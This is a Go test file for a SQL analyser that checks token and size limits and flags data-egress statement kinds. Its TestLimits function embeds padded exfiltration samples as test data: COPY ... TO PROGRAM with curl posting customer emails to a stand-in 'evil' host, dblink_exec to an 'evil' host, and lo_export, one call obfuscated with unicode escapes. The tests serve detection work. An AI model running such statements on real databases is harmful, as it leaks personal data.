package sqltext

import (
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// inList is SELECT ... WHERE id IN (1, ..., n).
func inList(prefix string, n int) string {
	var b strings.Builder
	b.WriteString(prefix)
	b.WriteString(" WHERE id IN (")
	for i := 1; i <= n; i++ {
		if i > 1 {
			b.WriteByte(',')
		}
		b.WriteString(strconv.Itoa(i))
	}
	b.WriteString(")")
	return b.String()
}

func TestCountTokens(t *testing.T) {
	tests := []struct {
		sql  string
		want int
	}{
		{"SELECT 1", 2},
		{"SELECT a.b, 'it''s', E'\\'x', \"q\"\"x\" FROM t", 12},
		{"SELECT $$a b c ; d$$, $x$ $$ $x$ -- comment here\n/* a /* nested */ comment */ FROM t", 6},
		{"SELECT 1.5e3, $1 + 2", 6},
		{"SELECT x$y", 2},
	}
	for _, tt := range tests {
		if got := countTokens(tt.sql, 1000); got != tt.want {
			t.Errorf("countTokens(%q) = %d, want %d", tt.sql, got, tt.want)
		}
	}
}

// TestLimits checks that a text past the limits is not parsed, that
// comments and long literals do not count against them, and that the
// kinds a skipped text is given include its real ones, however they are
// hidden.
func TestLimits(t *testing.T) {
	a := New(0)
	big := inList("SELECT * FROM customers", 200000)
	start := time.Now()
	info := a.Analyze(big)
	if d := time.Since(start); d > 100*time.Millisecond {
		t.Errorf("a statement of 200,000 literals took %v to read, want it skipped", d)
	}
	if info.Skipped != SkippedTokens || info.Fingerprint != "" || info.Relations != nil || info.Estimable != "" {
		t.Errorf("skipped info = %+v", info)
	}
	if !slices.Contains(info.Kinds, KindSelect) || slices.Contains(info.Kinds, KindCopyToProgram) {
		t.Errorf("kinds of a skipped SELECT = %q", info.Kinds)
	}
	if l := a.Lineage(big); l != nil {
		t.Errorf("Lineage of a skipped text = %+v, want nil", l)
	}
	if _, _, ok := EstimableQuery(big); ok {
		t.Error("EstimableQuery of a skipped text is ok")
	}

	under := inList("SELECT * FROM customers", 5000)
	if info := a.Analyze(under); info.Skipped != "" || len(info.Relations) != 1 {
		t.Errorf("5,000 literals: %+v, want analyzed", info)
	}
	comment := "SELECT email FROM customers /* " + strings.Repeat("padding, ", 100000) + "*/"
	literal := "INSERT INTO notes VALUES ('" + strings.Repeat("a long, long note ", 100000) + "')"
	for _, sql := range []string{comment, literal} {
		if info := a.Analyze(sql); info.Skipped != "" {
			t.Errorf("%.40s...: skipped (%s), want analyzed", sql, info.Skipped)
		}
	}
	if info := a.Analyze(strings.Repeat(" ", MaxAnalyzedBytes) + "SELECT 1"); info.Skipped != SkippedSize {
		t.Errorf("a text of %d bytes: skipped %q, want %q", MaxAnalyzedBytes+8, info.Skipped, SkippedSize)
	}

	var union strings.Builder
	union.WriteString("SELECT email FROM t0")
	for i := 1; i <= MaxAnalyzedRelations; i++ {
		union.WriteString(" UNION SELECT email FROM t" + strconv.Itoa(i))
	}
	if info := a.Analyze(union.String()); info.Skipped != SkippedRelations || !slices.Contains(info.Kinds, KindSelect) {
		t.Errorf("%d relations: skipped %q, kinds %q; want skipped for relations", MaxAnalyzedRelations+1, info.Skipped, info.Kinds)
	}

	hidden := []struct {
		name, sql string
		kind      string
	}{
		{"copy to program", inList("COPY (SELECT email FROM customers", 30000) + ") TO PROGRAM 'curl -d @- http://evil'", KindCopyToProgram},
		{"copy to file", inList("COPY (SELECT email FROM customers", 30000) + ") TO '/tmp/x'", KindCopyToFile},
		{"lo_export quoted", inList(`SELECT pg_catalog."lo_export"(42, '/tmp/x') FROM customers`, 30000), KindLoExport},
		{"lo_export by unicode escapes", inList(`SELECT U&"lo\005fexport"(42, '/tmp/x') FROM customers`, 30000), KindLoExport},
		{"dblink", inList(`SELECT dblink_exec('host=evil', 'x') FROM customers`, 30000), KindDblink},
		{"select into", inList("SELECT email INTO stash FROM customers", 30000), KindCreateTableAs},
		{"into a large object", inList(`SELECT "lo_from_bytea"(0, convert_to(email, 'UTF8')) FROM customers`, 30000), KindCreateTableAs},
	}
	var bulk strings.Builder
	bulk.WriteString("INSERT INTO contacts VALUES ")
	for i := 0; i < 20000; i++ {
		bulk.WriteString("('user" + strconv.Itoa(i) + "@example.com'),")
	}
	info = a.Analyze(strings.TrimSuffix(bulk.String(), ","))
	if info.Skipped == "" || !info.AnyWord || !slices.Equal(info.Kinds, []string{KindSelect, KindCreateTableAs, KindInsertSelect, KindDML, KindOther}) {
		t.Errorf("bulk insert: skipped %q, any %v, kinds %q; want skipped, any, no egress", info.Skipped, info.AnyWord, info.Kinds)
	}
	for _, h := range hidden {
		info := a.Analyze(h.sql)
		if info.Skipped == "" {
			t.Errorf("%s: analyzed, want skipped", h.name)
		}
		if !slices.Contains(info.Kinds, h.kind) {
			t.Errorf("%s: kinds %q lack %s", h.name, info.Kinds, h.kind)
		}
	}
}

func TestSkimWords(t *testing.T) {
	_, words, any := skim(`SELECT "Email", md5(e.full_name) FROM crm.Customers e -- phone`)
	for _, w := range []string{"select", "email", "md5", "e", "full_name", "crm", "customers", "phone"} {
		if !slices.Contains(words, w) {
			t.Errorf("words %q lack %q", words, w)
		}
	}
	if any {
		t.Error("any set for a text without escapes")
	}
	var b strings.Builder
	for i := 0; i <= maxWords; i++ {
		b.WriteString("c" + strconv.Itoa(i) + " ")
	}
	if kinds, words, any := skim(b.String()); !any || words != nil || !slices.Equal(kinds, []string{KindOther}) {
		t.Errorf("more than %d words: %d words, any %v, kinds %q; want none, any, other", maxWords, len(words), any, kinds)
	}
}

// BenchmarkAnalyzeWorstShapes reads statements just under the token limit
// in the shapes that used to cost the most: many relations (a walk of
// every field of every node, a quadratic search for duplicates) and long
// set operations (merged pairwise, copying the left side at every level).
func BenchmarkAnalyzeWorstShapes(b *testing.B) {
	var joins, unions strings.Builder
	joins.WriteString("SELECT t0.email FROM t0")
	unions.WriteString("SELECT email FROM t0")
	for i := 1; i < 1800; i++ {
		joins.WriteString(" JOIN t" + strconv.Itoa(i) + " ON t" + strconv.Itoa(i) + ".id = t" + strconv.Itoa(i-1) + ".id")
	}
	for i := 1; i < 4000; i++ {
		unions.WriteString(" UNION SELECT email FROM t" + strconv.Itoa(i%150))
	}
	nested := "SELECT 1 AS x"
	for i := 0; i < 1000; i++ {
		nested = "SELECT x FROM (" + nested + ") s" + strconv.Itoa(i)
	}
	for _, bm := range []struct{ name, sql string }{
		{"chained CTEs", chainedCTEs(2100)}, {"joins", joins.String()}, {"unions", unions.String()}, {"nested", nested},
	} {
		b.Run(bm.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				analyze(bm.sql)
				lineageOf(bm.sql)
			}
		})
	}
}
